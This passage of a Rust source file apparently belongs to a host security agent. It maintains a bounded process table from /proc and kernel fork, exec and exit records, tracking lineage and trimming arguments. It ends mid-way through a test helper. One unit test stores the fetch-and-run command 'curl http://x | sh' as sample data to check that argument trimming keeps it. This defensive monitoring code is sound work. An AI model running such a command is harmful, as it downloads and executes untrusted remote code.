//! The process table: who is running, what image, and who started whom.
//!
//! Findings say "`curl` started by `sh` started by `nginx`", including for processes that
//! started before the agent. The table is seeded once from `/proc`, then kept current from the
//! kernel's fork, exec and exit records. It is bounded: exited processes stay for a while, so
//! the lineage of their children can still be told, in a set of their own with the oldest
//! exit dropped first; live processes are dropped only when the table is full of live ones,
//! the least recently seen first.
//!
//! Processes are identified across the agent and the kernel by [`process_uuid`], which is the
//! same whether the start time came from `/proc` (clock ticks) or from the kernel (ns).

use std::{
    collections::BTreeMap,
    fs, io,
    io::Read,
    path::{Path, PathBuf},
};

use serde::Serialize;
use sha2::{Digest as _, Sha256};

use crate::exe_hash::Digest;

/// Where the running kernel publishes the id of the current boot.
pub const BOOT_ID_PATH: &str = "/proc/sys/kernel/random/boot_id";

/// Bytes of `/proc/<pid>/cmdline` kept, as a bound on memory per process (the kernel's exec
/// record keeps 2048).
pub const MAX_CMDLINE_BYTES: u64 = 8 * 1024;

/// Errors kept in a [`SeedReport`]; the rest are only counted.
const MAX_REPORTED_ERRORS: usize = 16;

/// Where a process's image fields (comm, exe, argv, cwd, ids) came from.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
pub enum InfoSource {
    /// Read from `/proc` when the table was seeded.
    ProcFs,
    /// Copied from the parent at fork; the process has not exec'd since.
    InheritedFromParent,
    /// From the kernel's exec record.
    Exec,
    /// Forked from a parent the table did not know: the image fields are empty.
    Unknown,
}

/// What the table knows about one process.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct ProcessInfo {
    /// Process id (thread-group id).
    pub tgid: u32,
    /// Parent process id when the process started (kept when it is later reparented); 0 when
    /// unknown or none.
    pub ppid: u32,
    /// Start time in ns since boot (`start_boottime`); from `/proc` it is a multiple of the
    /// clock tick. 0 when unknown.
    pub start_time_ns: u64,
    /// The task's `comm`.
    pub comm: String,
    /// The executable's path; `None` for kernel threads or when unreadable.
    pub exe: Option<PathBuf>,
    /// The argument vector (from `/proc`, at most [`MAX_CMDLINE_BYTES`] of it).
    pub argv: Vec<String>,
    /// The working directory at exec (or when seeded).
    pub cwd: Option<PathBuf>,
    /// Real user id.
    pub uid: u32,
    /// Real group id.
    pub gid: u32,
    /// Effective user id.
    pub euid: u32,
    /// Effective group id.
    pub egid: u32,
    /// SHA-256 of the executable, when it was hashed.
    pub exe_sha256: Option<Digest>,
    /// The process has exited.
    pub exited: bool,
    /// The exit code as `wait(2)` reports it, once exited.
    pub exit_code: Option<u32>,
}

impl ProcessInfo {
    /// A process the table knows nothing about beyond its ids.
    pub fn new(tgid: u32, ppid: u32, start_time_ns: u64) -> Self {
        Self {
            tgid,
            ppid,
            start_time_ns,
            comm: String::new(),
            exe: None,
            argv: Vec::new(),
            cwd: None,
            uid: 0,
            gid: 0,
            euid: 0,
            egid: 0,
            exe_sha256: None,
            exited: false,
            exit_code: None,
        }
    }

    /// The stable id of this process in this boot (see [`process_uuid`]).
    pub fn uuid(&self, boot_id: &str) -> String {
        process_uuid(boot_id, self.tgid, self.start_time_ns)
    }
}

/// Why reading `/proc` failed. Every variant names the file.
#[derive(Debug, thiserror::Error)]
pub enum ProcTableError {
    /// The proc root could not be listed.
    #[error("cannot list processes in {}: {source}", path.display())]
    ListProc {
        /// The directory.
        path: PathBuf,
        /// The I/O error.
        #[source]
        source: io::Error,
    },
    /// A file could not be read.
    #[error("cannot read {}: {source}", path.display())]
    Read {
        /// The file.
        path: PathBuf,
        /// The I/O error.
        #[source]
        source: io::Error,
    },
    /// A file did not have the expected format.
    #[error("cannot parse {field} in {}: {detail}", path.display())]
    Parse {
        /// The file.
        path: PathBuf,
        /// The field that was wrong.
        field: &'static str,
        /// What was wrong.
        detail: String,
    },
}

/// What [`ProcessTable::seed_from_proc`] did.
#[derive(Debug, Default)]
pub struct SeedReport {
    /// Processes added to the table.
    pub seeded: usize,
    /// Processes that exited while they were being read (not added).
    pub vanished: usize,
    /// Processes already in the table from kernel records, left as they were.
    pub kept_existing: usize,
    /// Processes that could not be read for another reason (not added).
    pub failed: usize,
    /// The first errors behind `failed`.
    pub errors: Vec<ProcTableError>,
}

/// Bytes one entry may hold in its argument vector (each argument counted with the
/// allocation it costs): beyond it the head and the tail are kept with a marker between them.
/// The exec event itself still carries the whole vector the kernel recorded.
pub const ENTRY_ARGV_BUDGET: usize = 4096;
/// Bytes the whole table may hold (entries, strings and paths): past it the oldest exited,
/// then the least recently seen live entries go, so no workload can grow it without bound.
pub const DEFAULT_BYTE_BUDGET: usize = 16 << 20;
/// What one argument costs besides its bytes: a `String` and the allocator's rounding.
const PER_ARGUMENT: usize = std::mem::size_of::<String>() + 8;

/// Counters for the health summary.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize)]
pub struct ProcessTableStats {
    /// Bytes the table holds now (its accounting: entries, strings, paths).
    pub bytes: u64,
    /// Argument vectors cut to [`ENTRY_ARGV_BUDGET`].
    pub trimmed_argv: u64,
    /// Entries dropped to keep the table under its byte budget.
    pub budget_evictions: u64,
    /// Live entries dropped because the table was full of live ones.
    pub live_evictions: u64,
    /// Exited entries dropped to bound the exited set or make room.
    pub exited_evictions: u64,
    /// Forks whose parent the table did not know.
    pub unknown_parents: u64,
    /// Exits of processes the table did not know.
    pub unknown_exits: u64,
}

struct Slot {
    info: ProcessInfo,
    /// What this entry counts against the byte budget.
    bytes: usize,
    /// Where `info`'s image fields came from.
    source: InfoSource,
    /// Key in `live_order` or `exited_order`, whichever `info.exited` says.
    order: u64,
}

/// A bounded table of processes keyed by tgid.
pub struct ProcessTable {
    capacity: usize,
    exited_capacity: usize,
    byte_budget: usize,
    /// Boxed: a slot is a few hundred bytes, and the table holds tens of thousands. Inline,
    /// every insert, removal and growth moved them, and lookups walked megabytes of them.
    entries: crate::PidMap<u32, Box<Slot>>,
    /// Live processes by when they were last seen: the first is the least recently seen.
    live_order: BTreeMap<u64, u32>,
    /// Exited processes by when they exited: the first exited first.
    exited_order: BTreeMap<u64, u32>,
    tick: u64,
    stats: ProcessTableStats,
}

impl ProcessTable {
    /// A table of at most `capacity` processes (at least 1), of which at most a quarter
    /// (at least 1) are kept after they exit.
    pub fn new(capacity: usize) -> Self {
        let capacity = capacity.max(1);
        Self::with_exited_capacity(capacity, capacity / 4)
    }

    /// A table of at most `capacity` processes, of which at most `exited_capacity` are kept
    /// after they exit (both at least 1, `exited_capacity` at most `capacity`).
    pub fn with_exited_capacity(capacity: usize, exited_capacity: usize) -> Self {
        let capacity = capacity.max(1);
        Self {
            capacity,
            exited_capacity: exited_capacity.clamp(1, capacity),
            byte_budget: DEFAULT_BYTE_BUDGET,
            // Grown as processes come, not reserved for `capacity`: a table reserved for 65,536
            // entries of about 200 bytes is 27 MiB of address space, and entries land all over
            // it, so that a few thousand processes made most of it resident.
            entries: crate::PidMap::default(),
            live_order: BTreeMap::new(),
            exited_order: BTreeMap::new(),
            tick: 0,
            stats: ProcessTableStats::default(),
        }
    }

    /// Adds every process found under `proc_root` (normally `/proc`). Processes that exit
    /// while they are read are skipped and counted; processes the kernel records already put
    /// in the table are left alone.
    pub fn seed_from_proc(&mut self, proc_root: &Path) -> Result<SeedReport, ProcTableError> {
        let dir = fs::read_dir(proc_root).map_err(|source| ProcTableError::ListProc {
            path: proc_root.to_path_buf(),
            source,
        })?;
        let ticks = clock_ticks_per_second();
        let mut report = SeedReport::default();
        for entry in dir {
            // An entry that vanished between getdents and here surfaces as an error.
            let Ok(entry) = entry else {
                report.vanished += 1;
                continue;
            };
            let Some(tgid) = entry
                .file_name()
                .to_str()
                .and_then(|n| n.parse::<u32>().ok())
            else {
                continue;
            };
            match read_process(proc_root, tgid, ticks) {
                Ok(info) => {
                    if let Some(existing) = self.entries.get(&tgid)
                        && existing.source != InfoSource::ProcFs
                        && same_process(existing.info.start_time_ns, info.start_time_ns)
                    {
                        report.kept_existing += 1;
                        continue;
                    }
                    self.insert(info, InfoSource::ProcFs);
                    report.seeded += 1;
                }
                Err(ReadOutcome::Vanished) => report.vanished += 1,
                Err(ReadOutcome::Failed(e)) => {
                    report.failed += 1;
                    if report.errors.len() < MAX_REPORTED_ERRORS {
                        report.errors.push(e);
                    }
                }
            }
        }
        Ok(report)
    }

    /// A process forked `child_tgid`. Until it execs, the child runs its parent's image, so it
    /// inherits the parent's comm, exe, argv, cwd, ids and hash.
    pub fn on_fork(&mut self, parent_tgid: u32, child_tgid: u32, child_start_time_ns: u64) {
        let parent = self
            .entries
            .get(&parent_tgid)
            .filter(|slot| !slot.info.exited)
            .map(|slot| slot.info.clone());
        let (child, source) = match parent {
            Some(parent) => {
                self.mark_seen(parent_tgid);
                let child = ProcessInfo {
                    tgid: child_tgid,
                    ppid: parent_tgid,
                    start_time_ns: child_start_time_ns,
                    exited: false,
                    exit_code: None,
                    ..parent
                };
                (child, InfoSource::InheritedFromParent)
            }
            None => {
                // A live parent forking cannot be an exited entry: that one is an older
                // process whose pid was reused, and its image is not the child's.
                self.stats.unknown_parents += 1;
                let child = ProcessInfo::new(child_tgid, parent_tgid, child_start_time_ns);
                (child, InfoSource::Unknown)
            }
        };
        self.insert(child, source);
    }

    /// A process replaced its image. When the table already knows this process (same start
    /// time), its parent and start time are kept: the parent it had at fork says more than
    /// the one it may have been reparented to since.
    pub fn on_exec(&mut self, mut info: ProcessInfo) {
        if let Some(existing) = self.entries.get(&info.tgid)
            && same_process(existing.info.start_time_ns, info.start_time_ns)
        {
            let old = &existing.info;
            if old.ppid != 0 {
                info.ppid = old.ppid;
            }
            if old.start_time_ns != 0 {
                info.start_time_ns = old.start_time_ns;
            }
            info.exited = old.exited;
            info.exit_code = old.exit_code;
        }
        self.insert(info, InfoSource::Exec);
    }

    /// A process ended. Its entry stays, marked exited, for the lineage of its children,
    /// until it is among the oldest exits when the exited set is full. Returns whether the
    /// table knew the process.
    pub fn on_exit(&mut self, tgid: u32, exit_code: u32) -> bool {
        let Some(slot) = self.entries.get_mut(&tgid) else {
            self.stats.unknown_exits += 1;
            return false;
        };
        if slot.info.exited {
            slot.info.exit_code = Some(exit_code);
            return true;
        }
        slot.info.exited = true;
        slot.info.exit_code = Some(exit_code);
        self.live_order.remove(&slot.order);
        self.tick += 1;
        slot.order = self.tick;
        self.exited_order.insert(self.tick, tgid);
        self.trim_exited();
        true
    }

    /// Records that a live process was active (any record about it), so it is not the first
    /// to be evicted.
    pub fn mark_seen(&mut self, tgid: u32) {
        let Some(slot) = self.entries.get_mut(&tgid) else {
            return;
        };
        if slot.info.exited {
            return;
        }
        self.live_order.remove(&slot.order);
        self.tick += 1;
        slot.order = self.tick;
        self.live_order.insert(self.tick, tgid);
    }

    /// Records the executable's hash for a process.
    pub fn set_exe_sha256(&mut self, tgid: u32, digest: Digest) {
        if let Some(slot) = self.entries.get_mut(&tgid) {
            slot.info.exe_sha256 = Some(digest);
        }
    }

    /// The process with this tgid, live or exited.
    pub fn get(&self, tgid: u32) -> Option<&ProcessInfo> {
        self.entries.get(&tgid).map(|slot| &slot.info)
    }

    /// The processes that have not exited, in no particular order.
    pub fn live(&self) -> impl Iterator<Item = &ProcessInfo> {
        self.entries
            .values()
            .map(|slot| &slot.info)
            .filter(|info| !info.exited)
    }

    /// Where the image fields of the process with this tgid came from.
    pub fn source(&self, tgid: u32) -> Option<InfoSource> {
        self.entries.get(&tgid).map(|slot| slot.source)
    }

    /// The process, then its parent, grandparent, ... up to pid 1 or the first ancestor the
    /// table does not know: at most `max_depth` entries, the process itself included. Stops
    /// on a cycle, and at an entry that started after its child (its pid was reused by a
    /// newer process, not the real parent).
    pub fn lineage(&self, tgid: u32, max_depth: usize) -> Vec<&ProcessInfo> {
        let mut chain: Vec<&ProcessInfo> = Vec::new();
        let mut next = self.get(tgid);
        while let Some(info) = next {
            if chain.len() >= max_depth || chain.iter().any(|seen| seen.tgid == info.tgid) {
                break;
            }
            if let Some(child) = chain.last()
                && started_after(info.start_time_ns, child.start_time_ns)
            {
                break;
            }
            chain.push(info);
            if info.ppid == 0 || info.tgid == 1 {
                break;
            }
            next = self.get(info.ppid);
        }
        chain
    }

    /// Processes in the table.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether the table is empty.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Exited processes still kept.
    pub fn exited_len(&self) -> usize {
        self.exited_order.len()
    }

    /// The counters so far.
    pub fn stats(&self) -> ProcessTableStats {
        self.stats
    }

    /// The table against its bounds, for the health summary.
    pub fn tracked(&self) -> crate::tracked::TrackedTable {
        crate::tracked::TrackedTable {
            table: "processes",
            entries: self.entries.len() as u64,
            max_entries: self.capacity as u64,
            bytes: Some(self.stats.bytes),
            max_bytes: Some(self.byte_budget as u64),
            shed: self.stats.live_evictions + self.stats.exited_evictions,
        }
    }

    /// The same table with a byte budget other than [`DEFAULT_BYTE_BUDGET`] (at least one entry
    /// always fits).
    pub fn with_byte_budget(mut self, bytes: usize) -> Self {
        self.byte_budget = bytes;
        self
    }

    /// Puts `info` in the table, replacing any entry with the same tgid, evicting as needed.
    fn insert(&mut self, mut info: ProcessInfo, source: InfoSource) {
        let tgid = info.tgid;
        if let Some(old) = self.entries.remove(&tgid) {
            self.unlink(&old);
            self.stats.bytes = self.stats.bytes.saturating_sub(old.bytes as u64);
        }
        if trim_argv(&mut info.argv, ENTRY_ARGV_BUDGET) {
            self.stats.trimmed_argv += 1;
        }
        let bytes = entry_bytes(&info);
        while self.entries.len() >= self.capacity {
            if !self.evict_oldest_exited() && !self.evict_least_recent_live() {
                break;
            }
        }
        while !self.entries.is_empty() && self.stats.bytes as usize + bytes > self.byte_budget {
            if !self.evict_oldest_exited() && !self.evict_least_recent_live() {
                break;
            }
            self.stats.budget_evictions += 1;
        }
        self.stats.bytes += bytes as u64;
        self.tick += 1;
        let order = self.tick;
        if info.exited {
            self.exited_order.insert(order, tgid);
        } else {
            self.live_order.insert(order, tgid);
        }
        self.entries.insert(
            tgid,
            Box::new(Slot {
                info,
                bytes,
                source,
                order,
            }),
        );
        self.trim_exited();
    }

    fn unlink(&mut self, slot: &Slot) {
        if slot.info.exited {
            self.exited_order.remove(&slot.order);
        } else {
            self.live_order.remove(&slot.order);
        }
    }

    fn trim_exited(&mut self) {
        while self.exited_order.len() > self.exited_capacity {
            if !self.evict_oldest_exited() {
                break;
            }
        }
    }

    fn evict_oldest_exited(&mut self) -> bool {
        let Some((_, tgid)) = self.exited_order.pop_first() else {
            return false;
        };
        self.remove_entry(tgid);
        self.stats.exited_evictions += 1;
        true
    }

    fn evict_least_recent_live(&mut self) -> bool {
        let Some((_, tgid)) = self.live_order.pop_first() else {
            return false;
        };
        self.remove_entry(tgid);
        self.stats.live_evictions += 1;
        true
    }

    fn remove_entry(&mut self, tgid: u32) {
        if let Some(slot) = self.entries.remove(&tgid) {
            self.stats.bytes = self.stats.bytes.saturating_sub(slot.bytes as u64);
        }
    }
}

/// What an entry counts against the byte budget: the slot and the heap its strings use.
fn entry_bytes(info: &ProcessInfo) -> usize {
    let path = |p: &Option<PathBuf>| p.as_ref().map_or(0, |p| p.as_os_str().len());
    std::mem::size_of::<Slot>()
        + std::mem::size_of::<u32>()
        + info.comm.len()
        + path(&info.exe)
        + path(&info.cwd)
        + info
            .argv
            .iter()
            .map(|a| a.len() + PER_ARGUMENT)
            .sum::<usize>()
}

/// Cuts `argv` to at most about `budget` bytes (arguments counted with their allocation): the
/// first arguments up to half of it, the last up to the other half, and between them one
/// marker saying what was left out; an argument longer than half the budget is cut too.
/// Returns whether anything was cut.
pub fn trim_argv(argv: &mut Vec<String>, budget: usize) -> bool {
    let cost = |a: &String| a.len() + PER_ARGUMENT;
    if argv.iter().map(cost).sum::<usize>() <= budget {
        return false;
    }
    let half = budget / 2;
    let cut = |a: &str, max: usize| -> String {
        let mut end = max.min(a.len());
        while !a.is_char_boundary(end) {
            end -= 1;
        }
        a[..end].to_owned()
    };
    let mut head = Vec::new();
    let mut used = 0;
    let mut i = 0;
    while i < argv.len() && used + cost(&argv[i]) <= half {
        used += cost(&argv[i]);
        head.push(std::mem::take(&mut argv[i]));
        i += 1;
    }
    if head.is_empty() && i < argv.len() {
        head.push(cut(&argv[i], half.saturating_sub(PER_ARGUMENT)));
        i += 1;
    }
    let mut tail = Vec::new();
    let mut used = 0;
    let mut j = argv.len();
    while j > i && used + cost(&argv[j - 1]) <= half.saturating_sub(64) {
        used += cost(&argv[j - 1]);
        tail.push(std::mem::take(&mut argv[j - 1]));
        j -= 1;
    }
    tail.reverse();
    let left_out = j - i;
    let left_out_bytes: usize = argv[i..j].iter().map(String::len).sum();
    head.push(format!(
        "…[{left_out} arguments, {left_out_bytes} bytes not kept]"
    ));
    head.extend(tail);
    *argv = head;
    true
}

/// Whether two start times can be the same process: equal at clock-tick resolution, or one
/// of them unknown.
fn same_process(a_ns: u64, b_ns: u64) -> bool {
    if a_ns == 0 || b_ns == 0 {
        return true;
    }
    let tick = ns_per_tick(clock_ticks_per_second());
    a_ns / tick == b_ns / tick
}

/// Whether a process that started at `a_ns` surely started after one that started at `b_ns`:
/// later by at least a clock tick, since one of them may come from `/proc` (rounded down to a
/// tick) and the other from the kernel (exact). Unknown (0) start times prove nothing.
fn started_after(a_ns: u64, b_ns: u64) -> bool {
    if a_ns == 0 || b_ns == 0 {
        return false;
    }
    let tick = ns_per_tick(clock_ticks_per_second());
    a_ns / tick > b_ns / tick
}

/// `sysconf(_SC_CLK_TCK)`: the unit of start times in `/proc/<pid>/stat` (100 on Linux).
pub fn clock_ticks_per_second() -> u64 {
    // SAFETY: sysconf has no preconditions and only reads configuration.
    let ticks = unsafe { libc::sysconf(libc::_SC_CLK_TCK) };
    u64::try_from(ticks).ok().filter(|&t| t > 0).unwrap_or(100)
}

fn ns_per_tick(ticks_per_second: u64) -> u64 {
    (1_000_000_000 / ticks_per_second.max(1)).max(1)
}

/// The start time of process `tgid` now, in ns since boot at clock-tick resolution (what
/// [`process_uuid`] rounds to), from `<proc_root>/<tgid>/stat`: what the kernel holds, for
/// telling a process from a later one that reuses its pid.
pub fn read_start_time_ns(proc_root: &Path, tgid: u32) -> Result<u64, ProcTableError> {
    let path = proc_root.join(tgid.to_string()).join("stat");
    let bytes = fs::read(&path).map_err(|source| ProcTableError::Read {
        path: path.clone(),
        source,
    })?;
    let stat = parse_stat(&bytes).map_err(|(field, detail)| ProcTableError::Parse {
        path,
        field,
        detail,
    })?;
    Ok(stat
        .start_ticks
        .saturating_mul(ns_per_tick(clock_ticks_per_second())))
}

/// The id of the current boot, from [`BOOT_ID_PATH`].
pub fn read_boot_id() -> Result<String, ProcTableError> {
    read_boot_id_from(Path::new(BOOT_ID_PATH))
}

/// The boot id stored in `path` (a UUID on one line).
pub fn read_boot_id_from(path: &Path) -> Result<String, ProcTableError> {
    let text = fs::read_to_string(path).map_err(|source| ProcTableError::Read {
        path: path.to_path_buf(),
        source,
    })?;
    let id = text.trim();
    if id.is_empty() {
        return Err(ProcTableError::Parse {
            path: path.to_path_buf(),
            field: "boot_id",
            detail: "the file is empty".into(),
        });
    }
    Ok(id.to_owned())
}

/// A UUID naming one process of one boot, the same for every observer: the start time is
/// first rounded down to clock ticks (as `/proc/<pid>/stat` reports it), so a process seeded
/// from `/proc` and the same process seen by the kernel in ns get the same id. Built from the
/// SHA-256 of boot id, tgid and start tick, formatted as an RFC 9562 version 8 UUID.
pub fn process_uuid(boot_id: &str, tgid: u32, start_time_ns: u64) -> String {
    format_uuid(&process_uuid_bytes(boot_id, tgid, start_time_ns))
}

/// The 16 bytes of [`process_uuid`], for callers that keep many (a cache) and format on use.
pub fn process_uuid_bytes(boot_id: &str, tgid: u32, start_time_ns: u64) -> [u8; 16] {
    let start_tick = start_time_ns / ns_per_tick(clock_ticks_per_second());
    let mut hasher = Sha256::new();
    hasher.update(b"vigil-process-v1\0");
    hasher.update(boot_id.trim().as_bytes());
    hasher.update(b"\0");
    hasher.update(tgid.to_le_bytes());
    hasher.update(start_tick.to_le_bytes());
    let digest: [u8; 32] = hasher.finalize().into();
    let mut b = [0u8; 16];
    b.copy_from_slice(&digest[..16]);
    b[6] = (b[6] & 0x0f) | 0x80; // version 8: custom
    b[8] = (b[8] & 0x3f) | 0x80; // variant 10: RFC 9562
    b
}

/// 16 bytes in the UUID text form (`8-4-4-4-12` lower-case hex digits). Written into a
/// fixed buffer and turned into one string: every record names its process by it.
pub fn format_uuid(b: &[u8; 16]) -> String {
    const HEX: &[u8; 16] = b"0123456789abcdef";
    let mut out = [b'-'; 36];
    let mut at = 0;
    for (i, byte) in b.iter().enumerate() {
        if matches!(i, 4 | 6 | 8 | 10) {
            at += 1;
        }
        out[at] = HEX[usize::from(byte >> 4)];
        out[at + 1] = HEX[usize::from(byte & 0x0f)];
        at += 2;
    }
    // Hex digits and dashes: always ASCII, so never the empty default.
    std::str::from_utf8(&out)
        .map(str::to_owned)
        .unwrap_or_default()
}

/// Why one process could not be read.
enum ReadOutcome {
    /// It exited meanwhile (its files are gone).
    Vanished,
    /// Anything else.
    Failed(ProcTableError),
}

fn is_gone(e: &io::Error) -> bool {
    // ENOENT once the /proc directory is gone; ESRCH when the task died with the file open.
    e.kind() == io::ErrorKind::NotFound || e.raw_os_error() == Some(libc::ESRCH)
}

fn read_required(path: PathBuf, limit: u64) -> Result<Vec<u8>, ReadOutcome> {
    let mut bytes = Vec::new();
    let result =
        fs::File::open(&path).and_then(|f| f.take(limit).read_to_end(&mut bytes).map(|_| ()));
    match result {
        Ok(()) => Ok(bytes),
        Err(e) if is_gone(&e) => Err(ReadOutcome::Vanished),
        Err(source) => Err(ReadOutcome::Failed(ProcTableError::Read { path, source })),
    }
}

fn read_process(proc_root: &Path, tgid: u32, ticks: u64) -> Result<ProcessInfo, ReadOutcome> {
    let dir = proc_root.join(tgid.to_string());
    let stat_path = dir.join("stat");
    let stat = read_required(stat_path.clone(), 4096)?;
    let stat = parse_stat(&stat).map_err(|(field, detail)| {
        ReadOutcome::Failed(ProcTableError::Parse {
            path: stat_path,
            field,
            detail,
        })
    })?;

    let status_path = dir.join("status");
    let status = read_required(status_path.clone(), 64 * 1024)?;
    let ids = parse_status_ids(&String::from_utf8_lossy(&status)).map_err(|(field, detail)| {
        ReadOutcome::Failed(ProcTableError::Parse {
            path: status_path,
            field,
            detail,
        })
    })?;

    let cmdline = read_required(dir.join("cmdline"), MAX_CMDLINE_BYTES)?;
    let argv = split_cmdline(&cmdline);

    // Kernel threads and zombies have no exe; permission may be denied without root. Neither
    // means the process is gone, so these stay optional.
    let exe = fs::read_link(dir.join("exe")).ok();
    let cwd = fs::read_link(dir.join("cwd")).ok();

    Ok(ProcessInfo {
        tgid,
        ppid: stat.ppid,
        start_time_ns: stat.start_ticks.saturating_mul(ns_per_tick(ticks)),
        comm: stat.comm,
        exe,
        argv,
        cwd,
        uid: ids.uid,
        gid: ids.gid,
        euid: ids.euid,
        egid: ids.egid,
        exe_sha256: None,
        exited: false,
        exit_code: None,
    })
}

struct Stat {
    comm: String,
    ppid: u32,
    start_ticks: u64,
}

/// Parses `/proc/<pid>/stat`. The comm is between the first `(` and the *last* `)`, since it
/// may itself hold parentheses and spaces.
fn parse_stat(bytes: &[u8]) -> Result<Stat, (&'static str, String)> {
    let open = bytes
        .iter()
        .position(|&b| b == b'(')
        .ok_or(("comm", "no '('".to_owned()))?;
    let close = bytes
        .iter()
        .rposition(|&b| b == b')')
        .filter(|&c| c > open)
        .ok_or(("comm", "no ')' after '('".to_owned()))?;
    let comm = String::from_utf8_lossy(&bytes[open + 1..close]).into_owned();
    let rest = std::str::from_utf8(&bytes[close + 1..])
        .map_err(|_| ("fields", "not UTF-8 after the comm".to_owned()))?;
    // After the comm: field 3 (state) is rest[0], so field n is rest[n - 3].
    let fields: Vec<&str> = rest.split_ascii_whitespace().collect();
    let field = |n: usize, name: &'static str| -> Result<&str, (&'static str, String)> {
        fields
            .get(n - 3)
            .copied()
            .ok_or((name, format!("field {n} missing")))
    };
    let ppid = field(4, "ppid")?;
    let ppid = ppid
        .parse::<u32>()
        .map_err(|_| ("ppid", format!("{ppid:?} is not a pid")))?;
    let start = field(22, "starttime")?;
    let start_ticks = start
        .parse::<u64>()
        .map_err(|_| ("starttime", format!("{start:?} is not a number")))?;
    Ok(Stat {
        comm,
        ppid,
        start_ticks,
    })
}

struct Ids {
    uid: u32,
    gid: u32,
    euid: u32,
    egid: u32,
}

/// Reads real and effective ids from the `Uid:` and `Gid:` lines of `/proc/<pid>/status`.
fn parse_status_ids(text: &str) -> Result<Ids, (&'static str, String)> {
    let pair = |key: &'static str| -> Result<(u32, u32), (&'static str, String)> {
        let line = text
            .lines()
            .find_map(|l| l.strip_prefix(key))
            .ok_or((key, "line missing".to_owned()))?;
        let mut values = line.split_ascii_whitespace().map(str::parse::<u32>);
        match (values.next(), values.next()) {
            (Some(Ok(real)), Some(Ok(effective))) => Ok((real, effective)),
            _ => Err((
                key,
                format!("{:?} is not 'real effective ...'", line.trim()),
            )),
        }
    };
    let (uid, euid) = pair("Uid:")?;
    let (gid, egid) = pair("Gid:")?;
    Ok(Ids {
        uid,
        gid,
        euid,
        egid,
    })
}

/// Splits the NUL-separated `cmdline` (the last argument NUL-terminated, unless a process
/// rewrote its arguments).
fn split_cmdline(bytes: &[u8]) -> Vec<String> {
    let bytes = bytes.strip_suffix(b"\0").unwrap_or(bytes);
    if bytes.is_empty() {
        return Vec::new();
    }
    bytes
        .split(|&b| b == 0)
        .map(|arg| String::from_utf8_lossy(arg).into_owned())
        .collect()
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::symlink;

    use super::*;

    fn tick() -> u64 {
        ns_per_tick(clock_ticks_per_second())
    }

    fn exec_info(
        tgid: u32,
        ppid: u32,
        start_time_ns: u64,
        exe: &str,
        argv: &[&str],
    ) -> ProcessInfo {
        ProcessInfo {
            comm: exe
                .rsplit('/')
                .next()
                .unwrap_or(exe)
                .chars()
                .take(15)
                .collect(),
            exe: Some(PathBuf::from(exe)),
            argv: argv.iter().map(|a| (*a).to_owned()).collect(),
            cwd: Some(PathBuf::from("/")),
            ..ProcessInfo::new(tgid, ppid, start_time_ns)
        }
    }

    #[test]
    fn long_argument_vectors_keep_their_head_and_tail() {
        let mut short: Vec<String> = vec!["ls".into(), "-la".into()];
        assert!(!trim_argv(&mut short, ENTRY_ARGV_BUDGET));
        assert_eq!(short, ["ls", "-la"]);

        let mut padded: Vec<String> = std::iter::once("sh".to_owned())
            .chain((0..5000).map(|_| "a".to_owned()))
            .chain(["-c".to_owned(), "curl http://x | sh".to_owned()])
            .collect();
        assert!(trim_argv(&mut padded, ENTRY_ARGV_BUDGET));
        let cost: usize = padded.iter().map(|a| a.len() + PER_ARGUMENT).sum();
        assert!(cost <= ENTRY_ARGV_BUDGET + 128, "{cost}");
        assert_eq!(padded[0], "sh");
        assert_eq!(padded[padded.len() - 2..], ["-c", "curl http://x | sh"]);
        assert!(
            padded
                .iter()
                .any(|a| a.starts_with("…[") && a.contains("arguments"))
        );

        let mut one_huge = vec!["é".repeat(10_000)];
        assert!(trim_argv(&mut one_huge, ENTRY_ARGV_BUDGET));
        assert!(one_huge[0].len() <= ENTRY_ARGV_BUDGET / 2);
    }

    #[test]
    fn an_argv_flood_stays_within_the_byte_budget() {
        // `for i in $(seq 20000); do /bin/true $(printf 'a %.0s' {1..1000}); done`: 20,000
        // processes of 1,001 arguments each, every one exec'd and exited.
        let mut table = ProcessTable::new(32_768);
        let argv: Vec<&str> = std::iter::once("/bin/true")
            .chain(std::iter::repeat_n("a", 1000))
            .collect();
        for tgid in 1000..21_000 {
            table.on_fork(1, tgid, u64::from(tgid) * tick());
            table.on_exec(exec_info(
                tgid,
                1,
                u64::from(tgid) * tick(),
                "/bin/true",
                &argv,
            ));
            table.on_exit(tgid, 0);
        }
        let stats = table.stats();
        assert!(stats.bytes <= DEFAULT_BYTE_BUDGET as u64, "{stats:?}");
        assert_eq!(stats.trimmed_argv, 20_000);
        // What the accounting says is what the entries hold.
        let counted: usize = table.entries.values().map(|s| entry_bytes(&s.info)).sum();
        assert_eq!(counted as u64, stats.bytes);
        // Every entry is small: the head and tail of its arguments.
        let largest = table.entries.values().map(|s| s.bytes).max().unwrap_or(0);
        assert!(largest <= ENTRY_ARGV_BUDGET + 512, "{largest}");
    }

    #[test]
    fn the_byte_budget_evicts_exited_entries_first_and_counts_them() {
        let mut table = ProcessTable::new(1_000).with_byte_budget(64 * 1024);
        let big: Vec<String> = (0..60).map(|i| format!("argument-{i:04}")).collect();
        let big: Vec<&str> = big.iter().map(String::as_str).collect();
        table.on_exec(exec_info(10, 1, tick(), "/usr/bin/live", &big));
        for tgid in 100..200 {
            table.on_exec(exec_info(
                tgid,
                10,
                u64::from(tgid) * tick(),
                "/bin/x",
                &big,
            ));
            table.on_exit(tgid, 0);
        }
        let stats = table.stats();
        assert!(stats.bytes <= 64 * 1024, "{stats:?}");
        assert!(stats.budget_evictions > 0);
        assert!(table.get(10).is_some(), "the live process stays");
        assert!(table.get(199).is_some(), "the newest exit stays");
    }

    /// A fake proc root in a temporary directory, removed on drop.
    struct FakeProc(PathBuf);

    impl FakeProc {
        fn new(name: &str) -> Self {
            let root =
                std::env::temp_dir().join(format!("vigil-proctable-{name}-{}", std::process::id()));
            let _ = fs::remove_dir_all(&root);
            fs::create_dir_all(&root).expect("mkdir");
            Self(root)
        }

        #[expect(
            clippy::too_many_arguments,
            reason = "one fake process, field by field"
        )]
        fn process(
            &self,
            pid: u32,
            comm: &str,
            ppid: u32,
            start_ticks: u64,
            uids: (u32, u32),
            cmdline: &[u8],
            exe: Option<&str>,
        ) {
            let dir = self.0.join(pid.to_string());
            fs::create_dir_all(&dir).expect("mkdir");
            fs::write(
